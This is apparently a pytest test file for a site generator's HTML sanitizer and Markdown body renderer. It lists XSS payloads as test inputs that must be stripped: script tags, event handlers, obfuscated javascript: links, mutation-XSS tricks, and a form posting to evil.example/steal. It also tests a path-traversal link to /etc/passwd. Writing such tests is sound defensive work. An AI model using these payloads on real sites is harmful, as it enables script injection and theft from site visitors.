"""Unit tests of the body allowlist (d5site.render.sanitize) and of bodies rendered one at a time (d5site.render.bodies)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from d5site.core.bodylinks import check_body_links, link_urls
from d5site.core.site import load
from d5site.core.siteconfig import SiteConfig
from d5site.core.urls import relative_url
from d5site.render.bodies import BodyRenderer, default_markdown
from d5site.render.pagebodies import body_renderer
from d5site.render.sanitize import sanitize

# (name, Markdown or HTML written by an author, text that must not survive, case-insensitive)
HOSTILE = [
    ("script", "<script>alert(1)</script>", "alert"),
    ("script src", '<script src="https://evil.example/x.js"></script>', "evil"),
    ("img onerror", "<img src=x onerror=alert(1)>", "onerror"),
    ("svg onload", "<svg onload=alert(1)><circle r=1 /></svg>", "onload"),
    ("svg script", "<svg><script>alert(1)</script></svg>", "alert"),
    ("iframe javascript", "<iframe src=javascript:alert(1)></iframe>", "iframe"),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "iframe"),
    ("object", '<object data="https://evil.example/x.swf"></object>', "object"),
    ("embed", '<embed src="https://evil.example/x.swf">', "embed"),
    ("markdown javascript link", "[x](javascript:alert(1))", "javascript"),
    ("markdown javascript link, case", "[x](JaVaScRiPt:alert(1))", "javascript"),
    ("markdown javascript link, entity", "[x](jav&#x09;ascript:alert(1))", "alert"),
    ("markdown javascript link, encoded", "[x](&#106;avascript:alert(1))", "alert"),
    ("html javascript link, whitespace", '<a href=" \tjavascript:alert(1)">x</a>', "javascript"),
    ("html javascript link, newline", '<a href="java\nscript:alert(1)">x</a>', "alert"),
    ("markdown data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:"),
    ("data image", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", "data:"),
    ("vbscript link", "[x](vbscript:msgbox(1))", "vbscript"),
    ("reference javascript link", "[x][a]\n\n[a]: javascript:alert(1)", "javascript"),
    ("autolink javascript", "<javascript:alert(1)>", "href"),
    ("attr list onclick", "A paragraph.\n{ onclick=\"alert(1)\" }", "onclick"),
    ("attr list on a heading", "## Title { #t onmouseover=\"alert(1)\" }", "onmouseover"),
    ("attr list on a link", "[x](https://example.org){ onclick=\"alert(1)\" }", "onclick"),
    ("attr list style", "Text\n{ style=\"position:fixed;top:0\" }", "style"),
    ("style attribute", '<p style="position:fixed;top:0;left:0">x</p>', "style"),
    ("style on a table cell", '<table><tr><td style="position:fixed;text-align:left;background:url(x)">x</td></tr></table>', "position"),
    ("style element", "<style>body{display:none}</style>", "display"),
    ("unclosed script", "Before\n\n<script>alert(1)\n\nAfter", "alert"),
    ("comment that opens a script", "<!-- <script> -->alert(1)<!-- </script> -->", "<script"),
    ("unclosed comment", "Text <!-- <script>alert(1)</script>", "script"),
    ("base", '<base href="https://evil.example/">', "base"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "refresh"),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "stylesheet"),
    ("form action", '<form action="https://evil.example/steal"><input name="p"><button>Go</button></form>', "evil"),
    ("formaction", '<button formaction="javascript:alert(1)">x</button>', "formaction"),
    ("id clobbering Material", '<h2 id="__search">x</h2>', "__search"),
    ("page chrome class", '<div class="md-banner md-header">x</div>', "md-"),
    ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>", "onerror"),
    ("template", "<template><script>alert(1)</script></template>", "alert"),
    ("math", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "onerror"),
    ("event handler on allowed tag", '<a href="https://example.org" onmouseover="alert(1)">x</a>', "onmouseover"),
    ("target blank", '<a href="https://example.org" target="_blank">x</a>', "target"),
]

# Legitimate Markdown: every `expected` fragment must be in the sanitized HTML.
LEGITIMATE = [
    ("paragraph and emphasis", "A *word* and **strong** text.", ["<p>A <em>word</em> and <strong>strong</strong> text.</p>"]),
    ("heading with id", "## Results { #results }", ['<h2 id="results">Results</h2>']),
    ("heading with lang", "## Résultats { #r lang=fr }", ['id="r"', 'lang="fr"']),
    ("lists", "- one\n- two\n\nThen:\n\n1. a\n2. b", ["<ul>", "<li>one</li>", "<ol>", "<li>b</li>"]),
    ("table with alignment", "| a | b |\n|:--|--:|\n| 1 | 2 |",
     ['<th style="text-align:left">a</th>', '<td style="text-align:right">2</td>', "<thead>", "<tbody>"]),
    ("links", "[a](https://example.org/x?y=1&z=2) [b](http://example.org) [c](mailto:a@example.org) [d](#part)",
     ['href="https://example.org/x?y=1&amp;z=2"', 'href="http://example.org"', 'href="mailto:a@example.org"', 'href="#part"']),
    ("image", '![A chart](../../docs/img/c.png "Title")', ['<img ', 'alt="A chart"', 'title="Title"']),
    ("image from another host becomes a link", '![A chart](https://example.org/c.png)',
     ['<a href="https://example.org/c.png" rel="noopener noreferrer">A chart</a>']),
    ("abbreviation", "The W3C.\n\n*[W3C]: World Wide Web Consortium", ['<abbr title="World Wide Web Consortium">W3C</abbr>']),
    ("code", "Use `x < y`.\n\n```\n<script>not run</script>\n```", ["<code>x &lt; y</code>", "&lt;script&gt;not run&lt;/script&gt;"]),
    ("blockquote", "> Quoted", ["<blockquote>", "<p>Quoted</p>"]),
    ("sup sub ins del", "H<sub>2</sub>O, x<sup>2</sup>, <ins>new</ins> <del>old</del>",
     ["<sub>2</sub>", "<sup>2</sup>", "<ins>new</ins>", "<del>old</del>"]),
    ("rule and break", "a  \nb\n\n---\n", ["<br>", "<hr>"]),
    ("admonition", '!!! note "Remember"\n    Text.', ['<div class="admonition note">', '<p class="admonition-title">Remember</p>']),
    ("lang and dir", '<p lang="he" dir="rtl">שלום</p>', ['<p lang="he" dir="rtl">שלום</p>']),
    ("footnote", "Text[^1].\n\n[^1]: Note.", ['class="footnote"', 'href="#fn:1"', 'id="fn:1"']),
]


def render(markdown: str) -> str:
    return sanitize(default_markdown()(markdown))


@pytest.mark.parametrize(("name", "source", "forbidden"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_markup_is_removed(name: str, source: str, forbidden: str) -> None:
    html = render(source)
    assert forbidden.lower() not in html.lower(), html
    for bad in ("<script", "<iframe", "<object", "<embed", "<style", "<form", "<base", "<meta", "<link", "<svg", "<math"):
        assert bad not in html.lower()
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", html, re.IGNORECASE), html
    assert not re.search(r"(href|src)\s*=\s*\"\s*(javascript|data|vbscript):", html, re.IGNORECASE), html


def test_hostile_html_is_removed_as_html() -> None:
    """The same payloads given straight as HTML (not through Markdown) are cleaned too."""
    for _, source, _forbidden in HOSTILE:
        html = sanitize(source)
        assert "<script" not in html.lower() and not re.search(r"<[^>]*\son[a-z]+=", html, re.IGNORECASE), (source, html)


@pytest.mark.parametrize(("name", "source", "expected"), LEGITIMATE, ids=[item[0] for item in LEGITIMATE])
def test_legitimate_markup_survives(name: str, source: str, expected: list[str]) -> None:
    html = render(source)
    for fragment in expected:
        assert fragment in html, html


def test_legitimate_html_is_unchanged() -> None:
    """HTML that is already within the allowlist comes out exactly as it went in."""
    html = ('<h2 id="a">A</h2>\n<p>Text with <abbr title="Organisation">OECD</abbr> and <a href="https://example.org/" '
            'rel="noopener noreferrer">a link</a>.</p>\n<table>\n<thead>\n<tr>\n<th align="center">x</th>\n</tr>\n</thead>\n'
            '<tbody>\n<tr>\n<td align="right">1</td>\n</tr>\n</tbody>\n</table>\n'
            '<div class="admonition warning">\n<p class="admonition-title">Careful</p>\n<p>Text.</p>\n</div>')
    assert sanitize(html) == html


@pytest.mark.parametrize("source", [
    "<div>unclosed", "<div><div><p>deep", "</div></div></article>closing the page", "<script>never closed",
    "<table><tr><td>cell", "<!-- open comment", "<pre>open pre", "<details><summary>x", "<a href='https://e.org'>open",
])
def test_output_is_balanced(source: str) -> None:
    """Whatever the input, every element the output opens it closes, and it closes nothing it did not open."""
    html = render(f"Before\n\n{source}\n\nAfter *text* {{ #x }}")
    stack: list[str] = []
    void = {"br", "hr", "img", "col"}
    for closing, tag in re.findall(r"<(/?)([a-z0-9]+)\b[^>]*>", html):
        if tag in void:
            continue
        if closing:
            assert stack and stack[-1] == tag, (html, tag, stack)
            stack.pop()
        else:
            stack.append(tag)
    assert stack == [], html


def _site(tmp_path: Path, files: dict[str, str]) -> Path:
    from sitetree import make_site

    return make_site(tmp_path, files, locales=("en", "fr"))


def test_body_renderer_resolves_links_per_page_and_locale(tmp_path: Path) -> None:
    root = _site(tmp_path, {
        "docs/guide/x.md": "# X\n",
        "docs/img/chart.png": "png",
        "findings/2018/responsible-ai.md": (
            "---\ntitle: Responsible use of AI\nmembers: [ca, gb]\nprinciples: [user-needs]\n---\n"
            "See [the 2016 finding](../2016/assisted-services.md#help), [in French](../2014/shared-code.fr.md), "
            "[the overview](../2014/index.md), [a revision](../../charter/principles/user-needs/2018.md), "
            "[a guide](../../docs/guide/x.md) and ![a chart](../../docs/img/chart.png).\n\n"
            "## Part { #part }\n\n[back](#part) [away](#elsewhere)\n"
        ),
    })
    site = SiteConfig(root=root, default_locale="en", locales=["en", "fr"])
    loaded = load(site)
    assert loaded.diagnostics == []
    finding = loaded.content.findings[(2018, "responsible-ai")]
    bodies = body_renderer(site, loaded.content)
    body = bodies.render(finding.path, finding.body, "fr")
    html, headings = body.place(lambda target: relative_url(target, "fr/reports/2018/"), level=3, prefix="responsible-ai--")
    assert 'href="../../findings/2016/assisted-services/#help"' in html
    assert 'href="../../findings/2014/shared-code/"' in html  # x.fr.md: the French page, here from a French page
    assert 'href="../../findings/2014/"' in html
    assert 'href="../../charter/principles/user-needs/#r2018"' in html
    assert 'href="../../guide/x/"' in html
    assert 'src="../../../img/chart.png"' in html
    assert '<h3 id="responsible-ai--part">' in html
    assert 'href="#responsible-ai--part"' in html and 'href="#elsewhere"' in html
    assert [(h.level, h.id, h.title) for h in headings] == [(3, "responsible-ai--part", "Part")]
    own, _ = body.place(lambda target: relative_url(target, "findings/2018/responsible-ai/"))
    assert 'href="../../2016/assisted-services/#help"' not in own  # links are written from the page that embeds them
    assert 'href="../../../fr/findings/2014/shared-code/"' in own or 'href="../../2014/shared-code/"' in own
    assert '<h2 id="part">' in own


def test_body_renderer_renders_each_body_once(tmp_path: Path) -> None:
    calls: list[str] = []

    def markdown(text: str) -> str:
        calls.append(text)
        return default_markdown()(text)

    root = _site(tmp_path, {})
    site = SiteConfig(root=root, default_locale="en", locales=["en", "fr"])
    loaded = load(site)
    from d5site.core.catalog import Catalog
    from d5site.core.charter import Charter
    from d5site.render.pages import View

    view = View(site, loaded.content, Charter(loaded.content), "fr", Catalog("fr"), bodies=BodyRenderer(markdown))
    finding = loaded.content.findings[(2014, "shared-code")]
    for here in ("fr/findings/2014/shared-code/", "fr/reports/2014/", "fr/findings/2014/"):
        view.links.here = here
        assert "Les membres ont convenu" in view.body_html(finding, prefix="x--")
    assert len(calls) == 1


def test_refused_links_become_text() -> None:
    body = BodyRenderer().render("findings/2018/x.md", "[click](javascript:alert(1)) and [ok](https://example.org/) <a id=\"t\"></a>", "en")
    assert body.html == ('<p>click and <a href="https://example.org/" rel="noopener noreferrer">ok</a> <a id="t" rel="noopener '
                         'noreferrer"></a></p>')


def test_control_characters_never_reach_the_page() -> None:
    """STX/ETX delimit Python-Markdown's own placeholders; no C0 control is text in HTML."""
    html = BodyRenderer().render("findings/2018/x.md", "a\x02wzxhzdk:0\x03 b\x00c\x1bd", "en").html
    assert html == "<p>awzxhzdk:0 bcd</p>"


def test_link_urls_skip_code() -> None:
    body = "A [link](a.md) and `[code](b.md)`.\n\n```\n[fenced](c.md)\n```\n\n[ref]: d.md\n<a href=\"e.md\">e</a>\n"
    assert [url for _, url in link_urls(body)] == ["a.md", "d.md", "e.md"]
    assert [line for line, _ in link_urls(body)] == [0, 6, 7]


def test_check_names_the_file_and_line_of_a_broken_link(tmp_path: Path) -> None:
    root = _site(tmp_path, {
        "findings/2018/responsible-ai.md": (
            "---\ntitle: Responsible use of AI\nmembers: [ca, gb]\nprinciples: [user-needs]\n---\n"
            "Intro.\n\nSee [a sibling](other-finding.md).\n\n![x](../../outside.png)\n\n[up](../../../etc/passwd)\n"
        ),
        "findings/2014/shared-code.fr.md": "---\ntitle: Partager\n---\nVoir [ceci](nope.fr.md).\n",
    })
    site = SiteConfig(root=root, default_locale="en", locales=["en", "fr"])
    found = [d.text() for d in check_body_links(site, load(site).content)]
    assert found == [
        "findings/2014/shared-code.fr.md:4: link to 'nope.fr.md': no finding, translation, revision or docs page at "
        "findings/2014/nope.fr.md",
        "findings/2018/responsible-ai.md:8: link to 'other-finding.md': no finding, translation, revision or docs page at "
        "findings/2018/other-finding.md",
        "findings/2018/responsible-ai.md:10: link to '../../outside.png': outside.png is not published: a relative link must name a .md "
        "file "
        "(a finding, revision or docs page) or a file under docs/; use an https:// URL for anything else",
        "findings/2018/responsible-ai.md:12: link to '../../../etc/passwd': it points outside the site",
    ]
